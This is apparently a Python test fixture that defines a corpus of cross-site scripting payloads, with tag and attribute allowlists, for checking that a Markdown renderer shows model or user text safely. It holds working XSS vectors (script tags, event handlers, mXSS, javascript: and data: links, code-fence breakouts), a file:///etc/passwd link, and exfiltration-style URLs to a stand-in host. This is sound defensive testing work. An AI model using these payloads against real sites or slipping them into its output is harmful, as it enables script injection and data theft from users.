"""A corpus of cross-site scripting payloads for anything that shows model or user text.

Each payload, if it ever ran, would run :data:`XSS_JS`: open a dialog, set ``window.__xss`` and log "xss"
to the console, so a browser test can tell it ran by any of the three. Image payloads point at
:data:`EXFIL_HOST`, so a test that records requests can tell that an image (or anything else) was fetched.

Use :data:`XSS_PAYLOADS` (name -> Markdown text) in a loop, or :func:`xss_document` for all in one text.
"""

from __future__ import annotations

# What rendered Markdown may contain; any other tag or attribute in a rendered payload is a finding.
RENDERED_TAGS = frozenset(
    {
        "a", "blockquote", "br", "button", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5",
        "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead",
        "tr", "ul",
    }
)  # fmt: skip
RENDERED_ATTRIBUTES = frozenset(
    {"href", "title", "rel", "target", "class", "start", "type", "data-copy", "aria-label"}
)
XSS_JS = "alert('xss');window.__xss=1;console.log('xss')"
EXFIL_HOST = "exfil.invalid"
EXFIL_URL = f"http://{EXFIL_HOST}/leak.png?secret=1"

_J = XSS_JS
_JS_URL = f"javascript:{_J}"

XSS_PAYLOADS: dict[str, str] = {
    # Raw HTML in Markdown (must stay text).
    "script tag": f"<script>{_J}</script>",
    "script tag inline": f"hello <script>{_J}</script> world",
    "script src": f'<script src="http://{EXFIL_HOST}/x.js"></script>',
    "img onerror": f'<img src="x" onerror="{_J}">',
    "img onerror unquoted": f"<img src=x onerror={_J}>",
    "svg onload": f'<svg onload="{_J}"></svg>',
    "svg script": f"<svg><script>{_J}</script></svg>",
    "svg animate href": f'<svg><a><animate attributeName="href" values="{_JS_URL}"/><text>x</text></a></svg>',
    "math mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{_J}">',
    "body onload": f'<body onload="{_J}">',
    "iframe srcdoc": f'<iframe srcdoc="<script>{_J}</script>"></iframe>',
    "iframe javascript": f'<iframe src="{_JS_URL}"></iframe>',
    "object data": f'<object data="{_JS_URL}"></object>',
    "embed": f'<embed src="{_JS_URL}">',
    "details ontoggle": f'<details open ontoggle="{_J}"><summary>x</summary></details>',
    "input autofocus onfocus": f'<input autofocus onfocus="{_J}">',
    "div onmouseover": f'<div onmouseover="{_J}" style="position:fixed;inset:0">cover</div>',
    "style tag": f"<style>@import 'http://{EXFIL_HOST}/x.css'; body{{background:url({EXFIL_URL})}}</style>",
    "style attribute": f'<p style="background:url({EXFIL_URL})">styled</p>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_JS_URL}">',
    "base href": f'<base href="http://{EXFIL_HOST}/">',
    "form action": f'<form action="{_JS_URL}"><button>go</button></form>',
    "html comment breakout": f"<!--><script>{_J}</script>-->",
    "broken tag": f"<scr<script>ipt>{_J}</scr</script>ipt>",
    "unclosed attribute": f'<a href="https://ok.example/" title="x><img src=x onerror={_J}>">t</a>',
    "nested quotes": f"<a href='\"><script>{_J}</script>'>x</a>",
    "entity encoded": "&lt;script&gt;alert('xss')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "null byte": f"<scr\x00ipt>{_J}</scr\x00ipt>",
    # Markdown links and images (the renderer's own output must be safe).
    "markdown javascript link": f"[click me]({_JS_URL})",
    "markdown javascript link encoded": "[click](javas&#99;ript:alert('xss'))",
    "markdown javascript link mixed case": "[click](JaVaScRiPt:alert('xss'))",
    "markdown javascript link tab": "[click](java\tscript:alert('xss'))",
    "markdown javascript link spaces": "[click]( javascript:alert('xss'))",
    "markdown vbscript link": "[click](vbscript:msgbox('xss'))",
    "markdown data html link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=)",
    "markdown data svg link": "[click](data:image/svg+xml,<svg onload=alert('xss')>)",
    "markdown file link": "[click](file:///etc/passwd)",
    "markdown reference javascript": f"[click][r]\n\n[r]: {_JS_URL}",
    "markdown link title breakout": f'[x](https://ok.example/ "\\"><img src=x onerror={_J}>")',
    "markdown image": f"![the alt text]({EXFIL_URL})",
    "markdown image no alt": f"![]({EXFIL_URL})",
    "markdown image javascript": f"![x]({_JS_URL})",
    "markdown image in link": f"[![badge]({EXFIL_URL})](https://ok.example/)",
    "markdown reference image": f"![logo][i]\n\n[i]: {EXFIL_URL}",
    "autolink javascript": f"<{_JS_URL}>",
    "autolink http": f"<http://{EXFIL_HOST}/page>",
    "autolink email": "<someone@example.com>",
    # Code: HTML in code must be shown, never run.
    "html in fence": f'```html\n<script>{_J}</script>\n<img src=x onerror="{_J}">\n```',
    "html in fence no language": f"```\n<script>{_J}</script>\n```",
    "fence language breakout": f'```"><script>{_J}</script>\nx\n```',
    # Fences in languages the browser's highlighter knows: its markup must hold text only, whatever the code.
    "javascript fence closing the code": (
        f'```javascript\nconst s = "</code></pre><img src=x onerror={_J}>";\n```'
    ),
    "python fence with html strings": f'```python\nprint("<script>{_J}</script>")  # <svg onload={_J}>\n```',
    "html fence uppercase": f'```HTML\n<svg onload="{_J}"><a href="{_JS_URL}">x</a></svg>\n```',
    "xml fence forging highlight spans": (
        f'```xml\n<span class="hljs-keyword" onclick="{_J}">k</span><style>*{{color:red}}</style>\n```'
    ),
    "markdown fence with links": (
        f"```markdown\n[click]({_JS_URL}) ![x]({EXFIL_URL}) <b onmouseover={_J}>\n```"
    ),
    "css fence": f"```css\nbody {{ background: url({EXFIL_URL}) }} </style><script>{_J}</script>\n```",
    "tilde fence with language": f"~~~js\n`</code>${{'<img src=x onerror={_J}>'}}`\n~~~",
    "html in inline code": f"`<script>{_J}</script>`",
    "html in indented code": f"    <script>{_J}</script>",
    "html in table": f"| a | b |\n|---|---|\n| <script>{_J}</script> | <img src=x onerror={_J}> |",
    "html in heading": f"# <img src=x onerror={_J}>",
    "html in blockquote": f"> <svg onload={_J}>",
    "html in list": f"- <iframe src={_JS_URL}></iframe>\n- ok",
    "html in emphasis": f"**<script>{_J}</script>**",
}


def xss_document() -> str:
    """Every payload in one Markdown text, each under its own heading, separated so none swallows the next."""
    return "\n\n".join(f"## Payload: {name}\n\n{text}\n\n---" for name, text in XSS_PAYLOADS.items())
